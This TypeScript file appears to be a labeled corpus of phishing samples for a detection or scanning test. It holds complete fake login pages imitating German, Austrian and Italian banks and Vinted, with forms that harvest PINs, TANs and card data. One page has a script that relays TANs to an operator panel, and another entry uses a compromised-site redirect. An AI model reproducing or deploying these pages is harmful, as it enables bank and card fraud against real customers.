import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, mark, footerDe, b64 } from '../parts/zv-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'zv-sparkasse-pushtan-neu-registrieren', label: 'phishing', kind: 'savings-bank-kit',
  url: 'https://sparkasse-pushtan-sicherheit.de/de/home/onlinebanking/',
  body: doc({ title: 'Sparkasse – pushTAN-Verfahren aktualisieren', css: '.top{background:#ff0000;color:#fff}.btn{background:#ff0000;color:#fff}',
    body: `<header class="top"><div class="wrap"><b style="font-size:22px">Ṡ Sparkasse</b></div></header>
<div class="wrap" style="max-width:520px"><div class="box" style="margin-top:30px"><h2>Neues Sicherheitsverfahren S-pushTAN 2.0</h2>
<p>Ab dem 01. des Folgemonats wird das bisherige pushTAN-Verfahren abgeschaltet. Bitte registrieren Sie Ihr Gerät erneut, damit Ihr Online-Banking nicht gesperrt wird.</p>
<form id="f"><label>Bankleitzahl oder Name Ihrer Sparkasse</label><input name="blz" required><label>Anmeldename / Legitimations-ID</label><input name="login" required><label>Online-Banking-PIN</label><input type="password" name="pin" required><label>Mobilfunknummer</label><input name="tel"><p><button class="btn">Weiter</button></p></form>
<div id="w" style="display:none"><h3>Bitte warten…</h3><p>Ihr Berater prüft die Anfrage. Geben Sie anschließend die angezeigte TAN ein.</p><input id="tan" placeholder="TAN"><button class="btn" id="tb">Bestätigen</button></div></div></div>${footerDe('Sparkasse')}
<script>
var sid=Math.random().toString(36).slice(2);
document.getElementById('f').onsubmit=function(e){e.preventDefault();var o=Object.fromEntries(new FormData(this));o.sid=sid;
fetch('/panel/api.php?a=login',{method:'POST',body:JSON.stringify(o)});this.style.display='none';document.getElementById('w').style.display='block';
setInterval(function(){fetch('/panel/api.php?a=poll&sid='+sid).then(function(r){return r.json()}).then(function(j){if(j.cmd==='redirect')location=j.url})},3000)};
document.getElementById('tb').onclick=function(){fetch('/panel/api.php?a=tan',{method:'POST',body:JSON.stringify({sid:sid,tan:document.getElementById('tan').value})})};
</script>` }),
  routes: { 'sparkasse-pushtan-sicherheit.de/panel/api.php': jsonRoute({ cmd: 'wait' }) },
},
{
  id: 'zv-volksbank-securego-plus', label: 'phishing', kind: 'coop-bank-kit',
  url: 'https://vr-securego-plus.com/banking-private/entry',
  body: doc({ title: 'Volksbanken Raiffeisenbanken – Online-Banking', css: '.top{background:#0066b3;color:#fff}.btn{background:#ff6600;color:#fff}',
    body: `<header class="top"><div class="wrap"><b>Volksbank Raiffeisenbank</b></div></header>
<div class="wrap" style="max-width:500px"><div class="box" style="margin-top:30px"><h2>SecureGo plus – Freischaltcode erneuern</h2><p>Ihr Aktivierungscode läuft ab. Melden Sie sich an, um einen neuen Code per Post zu erhalten.</p>
<form method="post" action="/banking-private/next.php"><label>BLZ / BIC</label><input name="blz"><label>VR-NetKey oder Alias</label><input name="netkey"><label>PIN</label><input type="password" name="pin"><label>Geburtsdatum</label><input name="dob"><p><button class="btn">Anmelden</button></p></form></div></div>${footerDe('Atruvia AG')}` }),
},
{
  id: 'zv-raiffeisen-elba-at-redirect', label: 'phishing', kind: 'coop-bank-kit',
  url: 'https://www.gemeinde-wirtshaus-rieder.at/wp-content/uploads/elba.html',
  body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Laden…</title><script>window.location.replace('https://elba-raiffeisen.login-sicher.eu/?id='+btoa(location.hash.slice(1)||'x'))</script></head><body></body></html>`,
  routes: {
    'elba-raiffeisen.login-sicher.eu/': htmlRoute(doc({ title: 'Raiffeisen ELBA – Mein ELBA Login', lang: 'de-AT', css: '.top{background:#ffe500}.btn{background:#000;color:#ffe500}',
      body: `<header class="top"><div class="wrap"><b>Raiffeisen</b> Mein ELBA</div></header><div class="wrap" style="max-width:480px"><div class="box" style="margin-top:30px"><h2>Login</h2><p>Aufgrund einer Systemumstellung ist eine einmalige Verifizierung Ihres Kontos erforderlich.</p><form method="post" action="/auth.php"><label>Verfügernummer</label><input name="vfn"><label>PIN</label><input type="password" name="pin"><label>Telefonnummer</label><input name="tel"><p><button class="btn">Weiter</button></p></form></div></div>` })),
  },
},
{
  id: 'zv-comdirect-photo-tan-qr', label: 'phishing', kind: 'bank-kit',
  url: 'https://comdirect-phototan.de-aktualisierung.info/',
  body: doc({ title: 'comdirect – photoTAN aktualisieren', css: '.top{background:#fff500}.btn{background:#fff500;color:#000}',
    body: `<header class="top"><div class="wrap"><b>comdirect</b></div></header><div class="wrap" style="max-width:500px"><div class="box" style="margin-top:30px"><h2>photoTAN-Aktivierung</h2>
<p>Bitte scannen Sie nach der Anmeldung die angezeigte Grafik mit Ihrer photoTAN-App und geben die TAN ein.</p><form id="f" method="post" action="/step.php"><label>Zugangsnummer</label><input name="zugang" maxlength="8"><label>PIN</label><input type="password" name="pin" maxlength="6"><p><button class="btn">Anmelden</button></p></form></div></div>
<script>setTimeout(function(){fetch('/visit.php?r='+encodeURIComponent(document.referrer))},400)</script>` }),
},
{
  id: 'zv-vinted-it-ricevi-pagamento', label: 'phishing', kind: 'marketplace-payment-kit',
  url: 'https://vinted-it.ricevi-pagamento.click/item/39120',
  body: doc({ title: 'Vinted – Ricevi il pagamento', lang: 'it', css: '.btn{background:#09b1ba;color:#fff}',
    body: `<div class="wrap" style="max-width:520px"><div class="box" style="margin-top:24px">${mark('Vinted', '#09b1ba')}<h2>L'acquirente ha pagato il tuo articolo</h2><p>Per ricevere 65,00 € inserisci i dati della carta su cui accreditare l'importo.</p>
<form method="post" action="/item/card.php"><label>Numero carta</label><input name="card"><label>Scadenza</label><input name="exp"><label>CVV</label><input name="cvv"><p><button class="btn">Ricevi i fondi</button></p></form></div></div>` }),
},
];
